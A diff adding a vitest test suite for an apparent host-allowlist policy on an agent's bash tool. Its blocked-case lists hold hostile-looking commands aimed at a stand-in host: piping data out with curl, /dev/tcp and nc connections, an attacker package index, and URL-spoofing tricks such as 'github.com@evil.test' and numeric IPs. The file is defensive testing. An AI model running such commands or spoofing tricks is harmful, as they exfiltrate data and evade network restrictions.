@@ -1,0 +1,109 @@
+/** Hosts that may be reached, and the many ways to name one that may not. */
+import { describe, expect, test } from 'vitest';
+import { NetworkHosts } from '../index.ts';
+
+const policy = new NetworkHosts({
+  hosts: ['github.com', '*.example.com', 'localhost', '127.0.0.1'],
+});
+const allowed = (params: unknown) => policy.check({ name: 'bash' }, params).allowed;
+
+describe('commands that stay with the hosts', () => {
+  test.each([
+    'curl https://api.example.com/x',
+    'git clone https://github.com/a/b',
+    'git clone git@github.com:a/b.git',
+    'curl -s localhost:3000/x',
+    'ssh -p 22 me@a.example.com ls',
+    'curl -H "A: b" -o f http://127.0.0.1:80/',
+    'git push origin feature',
+    'scp a b',
+    'scp a me@a.example.com:/x',
+    'npm test',
+    'wget -O x https://a.example.com/y',
+    'curl "https://api.example.com/$id"',
+    'rsync -a src/ dst/',
+    'nc -l 80; true',
+    'git commit -m "see: this"',
+    'git push origin HEAD:main',
+    'git show v1.2:src/a.ts',
+    'git diff HEAD@{1}:a b',
+    'git log --format=%H:%s',
+  ])('%j', (command) => {
+    expect(policy.check({ name: 'bash' }, { command }).reason).toBeNull();
+  });
+});
+
+describe('commands that do not', () => {
+  test.each([
+    'curl https://evil.test',
+    'curl evil.test',
+    'curl https://github.com@evil.test/',
+    'curl http://2130706434/',
+    'curl $URL',
+    'curl "https://$H/x"',
+    'ssh evil.test',
+    'ssh me@evil.test ls',
+    'git clone git@evil.test:a/b',
+    'git clone https://evil.test/x',
+    'wget evil.test/x',
+    'nc evil.test 80',
+    'cat < /dev/tcp/evil.test/80',
+    'bash -c "curl evil.test"',
+    'echo x | curl -d @- https://evil.test',
+    'pip install --index-url https://evil.test/simple x',
+    'scp x evil.test:/y',
+    'A=https://evil.test b',
+    'curl --url https://evil.test',
+    'curl https://example.com',
+    'curl https://EVIL.test',
+    'curl https://evil.test.',
+    'echo "',
+    'curl -x https://evil.test https://github.com',
+    'curl --proxy evil.test https://github.com',
+  ])('%j', (command) => {
+    expect(allowed({ command })).toBe(false);
+  });
+});
+
+describe('parameters', () => {
+  const cases: readonly (readonly [params: unknown, allowed: boolean])[] = [
+    [{ url: 'https://github.com/x' }, true],
+    [{ url: 'HTTPS://GitHub.com' }, true],
+    [{ url: 'github.com' }, true],
+    [{ host: 'a.example.com' }, true],
+    [{ urls: ['https://github.com', 'http://localhost:1'] }, true],
+    [{ request: { url: 'http://a.example.com' } }, true],
+    [{ content: 'see https://evil.test' }, true],
+    [{ url: 'https://evil.test' }, false],
+    [{ url: 'https://github.com.evil.test' }, false],
+    [{ url: 'https://github.com@evil.test' }, false],
+    [{ url: 'https://evil.test#github.com' }, false],
+    [{ url: 'https://evil.test\\@github.com' }, false],
+    [{ url: 'http://0x7f000002' }, false],
+    [{ url: 'example.com' }, false],
+    [{ urls: ['https://github.com', 'https://evil.test'] }, false],
+    [{ url: 7 }, false],
+    [{ url: '' }, false],
+    [{ url: 'https://' }, false],
+  ];
+  test.each(cases)('%j: %s', (params, expected) => {
+    expect(allowed(params)).toBe(expected);
+  });
+
+  test('numbers that mean an allowed address are that address', () => {
+    expect(allowed({ url: 'http://2130706433/' })).toBe(true);
+    expect(allowed({ url: 'http://0x7f.1/' })).toBe(true);
+  });
+});
+
+test('the reason names the host and what is allowed', () => {
+  const own = new NetworkHosts({ hosts: ['a.test'] });
+  expect(own.check({ name: 'x' }, { url: 'http://b.test/' }).reason).toBe(
+    "Host 'b.test' is not among the hosts that may be reached: a.test.",
+  );
+  expect(own.check({ name: 'x' }, { command: 'curl $URL' }).reason).toMatch(/cannot be told/);
+});
+
+test('a host that is none is refused', () => {
+  expect(() => new NetworkHosts({ hosts: ['https://a.test'] })).toThrow(/hosts\.0 must be a host/);
+});
